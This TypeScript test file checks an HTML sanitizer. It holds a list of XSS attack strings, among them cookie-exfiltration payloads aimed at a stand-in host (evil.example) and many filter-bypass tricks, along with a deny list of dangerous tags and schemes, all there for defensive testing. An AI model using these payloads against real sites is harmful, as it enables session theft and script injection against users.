import { test } from 'node:test';
import assert from 'node:assert/strict';
import { parseFragment } from 'parse5';
import { sanitizeHtml } from './sanitize.ts';

// A small browser-like check of our own: parse the output as a browser would (parse5) and
// look for anything that can run script.
type Node5 = { nodeName: string; tagName?: string; attrs?: Array<{ name: string; value: string; prefix?: string }>; childNodes?: Node5[]; content?: Node5; value?: string };
const BAD_TAGS = new Set(['script', 'style', 'iframe', 'object', 'embed', 'form', 'input', 'button', 'textarea', 'base', 'link', 'meta', 'frame', 'frameset', 'svg', 'math', 'template']);
const URLISH = new Set(['href', 'src', 'srcset', 'action', 'formaction', 'poster', 'background', 'xlink:href', 'data', 'cite']);

function problems(html: string): string[] {
  const found: string[] = [];
  const walk = (n: Node5) => {
    if (n.tagName) {
      if (BAD_TAGS.has(n.tagName)) found.push(`<${n.tagName}>`);
      for (const a of n.attrs ?? []) {
        const name = (a.prefix ? `${a.prefix}:${a.name}` : a.name).toLowerCase();
        if (name.startsWith('on')) found.push(name);
        if (name === 'style' || name === 'srcdoc') found.push(name);
        if (URLISH.has(name)) {
          const values = name === 'srcset' ? a.value.split(',').map((c) => c.trim().split(/\s+/)[0] ?? '') : [a.value];
          for (const v of values) {
            const norm = v.replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase();
            const okData = n.tagName === 'img' && name === 'src' && /^data:image\/(png|gif|jpeg|webp)[;,]/.test(norm);
            if (/^(javascript|vbscript|data|file):/.test(norm) && !okData) found.push(`${name}=${norm.slice(0, 20)}`);
          }
        }
      }
    }
    for (const c of n.childNodes ?? []) walk(c);
    if (n.content) walk(n.content);
  };
  walk(parseFragment(html) as unknown as Node5);
  return found;
}

function elements(html: string): Node5[] {
  const out: Node5[] = [];
  const walk = (n: Node5) => {
    if (n.tagName) out.push(n);
    for (const c of n.childNodes ?? []) walk(c);
  };
  walk(parseFragment(html) as unknown as Node5);
  return out;
}
const attr = (el: Node5, name: string) => el.attrs?.find((a) => a.name === name)?.value;
function textOf(html: string): string {
  let s = '';
  const walk = (n: Node5) => {
    if (n.nodeName === '#text') s += n.value;
    for (const c of n.childNodes ?? []) walk(c);
  };
  walk(parseFragment(html) as unknown as Node5);
  return s.replace(/\s+/g, ' ').trim();
}

// Attack strings written for this test (variations of well-known techniques).
const ATTACKS: string[] = [
  '<script>document.cookie</script>hello',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">',
  '<img src="jav&#x09;ascript:alert(2)">',
  '<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(3)">',
  '<a href=" &#14;  javascript:alert(4)">x</a>',
  '<a href="java\nscript:alert(5)">x</a>',
  '<a href="JaVaScRiPt:alert(6)">x</a>',
  '<a href="vbscript:msgbox(7)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==">x</a>',
  '<a href="javascript&colon;alert(9)">x</a>',
  '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
  '<img srcset="https://ok.example/a.jpg 1x, javascript:alert(10) 2x">',
  '<img srcset="data:image/png;base64,AAAA 1x">',
  '<picture><source srcset="javascript:alert(11)"><img src="https://ok.example/p.jpg"></picture>',
  '<video poster="javascript:alert(12)" src="https://ok.example/v.mp4"></video>',
  '<audio src="data:audio/wav;base64,AAAA"></audio>',
  '<svg><script>alert(13)</script></svg>',
  '<svg onload=alert(14)><a xlink:href="javascript:alert(14)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(15)>',
  '<iframe src="https://evil.example" srcdoc="<script>alert(16)</script>"></iframe>',
  '<object data="javascript:alert(17)"></object><embed src="x.swf">',
  '<form action="javascript:alert(18)"><input type=submit formaction="javascript:alert(18)"><button>go</button></form>',
  '<p style="background:url(javascript:alert(19))">styled</p>',
  '<div style="width: expression(alert(20))">ie</div>',
  '<style>@import "//evil.example/x.css"; body{display:none}</style>text',
  '<base href="javascript:alert(21)//">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(22)">',
  '<body onload=alert(23)>',
  '<details open ontoggle=alert(24)>',
  '<table background="javascript:alert(25)"><tr><td>x</td></tr></table>',
  '<<script>alert(26);//<</script>',
  '<scr<script>ipt>alert(27)</scr</script>ipt>',
  '<noscript><p title="</noscript><img src=x onerror=alert(28)>">',
  '<textarea><script>alert(29)</script></textarea>',
  '<template><img src=x onerror=alert(30)></template>',
  '<a href="&#x6a;avascript:alert(31)">x</a>',
  '<img src=`javascript:alert(32)`>',
  '<!--<img src="--><img src=x onerror=alert(33)//">',
  '<xmp><img src=x onerror=alert(34)></xmp>',
  '<div><a href="\u0000javascript:alert(35)">x</a></div>',
  '<a href="java\u0085script:alert(36)">x</a>',
  '<img src="x" ONERROR=alert(37)>',
  '<select><option><img src=x onerror=alert(38)></option></select>',
  '<isindex action="javascript:alert(39)" type=image>',
  '<marquee onstart=alert(40)>hi</marquee>',
  '<svg><animate attributeName="href" values="javascript:alert(41)"/></svg>',
];

test('every attack string comes out safe, with and without a base URL', () => {
  for (const a of ATTACKS) {
    for (const base of [undefined, 'https://news.example.com/world/story.html']) {
      const out = sanitizeHtml(a, base);
      assert.deepEqual(problems(out), [], `unsafe output for ${JSON.stringify(a)} (base ${base}): ${out}`);
    }
  }
});

test('the checker itself flags dangerous output (so the test above can fail)', () => {
  assert.notDeepEqual(problems('<img src=x onerror=alert(1)>'), []);
  assert.notDeepEqual(problems('<a href="java\tscript:alert(1)">x</a>'), []);
  assert.notDeepEqual(problems('<style>p{}</style>'), []);
});

test('benign article markup is preserved', () => {
  const html =
    '<h2>Storm update</h2><p>Winds of <strong>120 km/h</strong> and <em>heavy</em> rain near the ' +
    '<a href="https://example.org/coast" title="Coast">coast</a>.</p>' +
    '<figure><img src="https://example.org/storm.png" alt="Radar image" width="640" height="360"><figcaption>Radar at 14:00</figcaption></figure>' +
    '<blockquote><p>Stay indoors.</p></blockquote><ul><li>Schools closed</li><li>Trains delayed</li></ul>' +
    '<ol start="3"><li>Third</li></ol><table><thead><tr><th>Party</th><th>Seats</th></tr></thead><tbody><tr><td>Green</td><td>12</td></tr></tbody></table>' +
    '<pre><code>let x = 1 &lt; 2;</code></pre><p>Fish &amp; chips &pound;5 &ndash; O&#39;Brien</p>';
  const out = sanitizeHtml(html, 'https://example.org/news/');
  assert.deepEqual(problems(out), []);
  const tags = elements(out).map((e) => e.tagName);
  for (const t of ['h2', 'p', 'strong', 'em', 'a', 'figure', 'img', 'figcaption', 'blockquote', 'ul', 'li', 'ol', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'pre', 'code']) {
    assert.ok(tags.includes(t), `lost <${t}>: ${out}`);
  }
  const img = elements(out).find((e) => e.tagName === 'img')!;
  assert.equal(attr(img, 'src'), 'https://example.org/storm.png');
  assert.equal(attr(img, 'alt'), 'Radar image');
  assert.equal(attr(img, 'width'), '640');
  const text = textOf(out);
  assert.ok(text.includes('let x = 1 < 2;'));
  assert.ok(text.includes("Fish & chips £5 – O'Brien"));
});

test('data:image raster images are kept on img src, other data: URLs are not', () => {
  const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=';
  const out = sanitizeHtml(`<img src="${png}" alt="pixel"><img src="data:image/svg+xml,%3Csvg%3E" alt="svg">`);
  const imgs = elements(out).filter((e) => e.tagName === 'img');
  assert.equal(attr(imgs[0], 'src'), png);
  assert.equal(attr(imgs[1], 'src'), undefined);
});

test('URLs are made absolute against the base, links get rel=noopener noreferrer', () => {
  const out = sanitizeHtml(
    '<a href="../about">About</a> <a href="//cdn.example.net/x">cdn</a> <a href="mailto:desk@example.org">mail</a>' +
      '<img src="img/a.jpg" srcset="img/a.jpg 1x, /img/a@2x.jpg 2x, https://cdn.example.net/w_300,h_200/a.jpg 3x">' +
      '<blockquote cite="/source">q</blockquote>',
    'https://news.example.com/world/2024/story.html',
  );
  const els = elements(out);
  const links = els.filter((e) => e.tagName === 'a');
  assert.equal(attr(links[0], 'href'), 'https://news.example.com/world/about');
  assert.equal(attr(links[0], 'rel'), 'noopener noreferrer');
  assert.equal(attr(links[1], 'href'), 'https://cdn.example.net/x');
  assert.equal(attr(links[2], 'href'), 'mailto:desk@example.org');
  const img = els.find((e) => e.tagName === 'img')!;
  assert.equal(attr(img, 'src'), 'https://news.example.com/world/2024/img/a.jpg');
  assert.equal(
    attr(img, 'srcset'),
    'https://news.example.com/world/2024/img/a.jpg 1x, https://news.example.com/img/a@2x.jpg 2x, https://cdn.example.net/w_300%2Ch_200/a.jpg 3x',
  );
  assert.equal(attr(els.find((e) => e.tagName === 'blockquote')!, 'cite'), 'https://news.example.com/source');
});

test('without a base, relative URLs stay relative and cannot carry a scheme', () => {
  const out = sanitizeHtml('<a href="/a/b?c=1">x</a><a href="java\u0085script:alert(1)">y</a>');
  const links = elements(out).filter((e) => e.tagName === 'a');
  assert.equal(attr(links[0], 'href'), '/a/b?c=1');
  const second = attr(links[1], 'href');
  assert.ok(second === undefined || second.startsWith('/'), `got ${second}`);
});

test('styles, classes and event handlers are removed but text is kept', () => {
  const out = sanitizeHtml('<p class="lead" id="p1" style="color:red" onclick="x()">Kept <span onmouseover="y()">text</span></p><style>p{}</style>');
  assert.equal(out, '<p>Kept <span>text</span></p>');
  assert.equal(sanitizeHtml(''), '');
});

test('lazy-loaded images: the real URL in data-src / data-srcset is promoted', () => {
  const out = sanitizeHtml(
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" data-src="/media/photo.jpg" data-srcset="/media/photo-2x.jpg 2x" alt="Photo">' +
      '<img src="/media/real.jpg" data-src="/media/other.jpg" alt="Real">' +
      '<img src="/static/blank.gif" data-original="javascript:alert(1)" alt="Bad">',
    'https://news.example.com/a/',
  );
  const imgs = elements(out).filter((e) => e.tagName === 'img');
  assert.equal(attr(imgs[0], 'src'), 'https://news.example.com/media/photo.jpg');
  assert.equal(attr(imgs[0], 'srcset'), 'https://news.example.com/media/photo-2x.jpg 2x');
  assert.equal(attr(imgs[1], 'src'), 'https://news.example.com/media/real.jpg');
  assert.equal(attr(imgs[2], 'src'), undefined, 'a dangerous lazy URL is dropped, not promoted');
  assert.deepEqual(problems(out), []);
});
